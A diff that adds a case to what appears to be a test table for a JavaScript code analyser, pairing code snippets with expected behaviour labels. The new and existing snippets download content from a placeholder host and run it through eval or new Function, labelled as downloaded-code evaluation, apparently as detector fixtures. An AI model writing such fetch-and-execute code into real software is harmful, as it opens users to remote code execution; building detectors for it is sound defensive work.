@@ -669,6 +669,11 @@ table('JavaScript: files of another package', [
 
 table('JavaScript: what comes in, what was written', [
   [
+    'an answer to a handler that is a property',
+    "const x = new XMLHttpRequest(); x.open('GET', 'https://host.invalid'); x.onload = () => eval(x.responseText); x.send()",
+    'http-request to:other | evaluate-downloaded',
+  ],
+  [
     'the answer that came with an error',
     "require('axios').get('https://host.invalid').then((r) => r.data).catch((e) => new Function('require', e.response.data)(require))",
     'http-request | evaluate-downloaded',
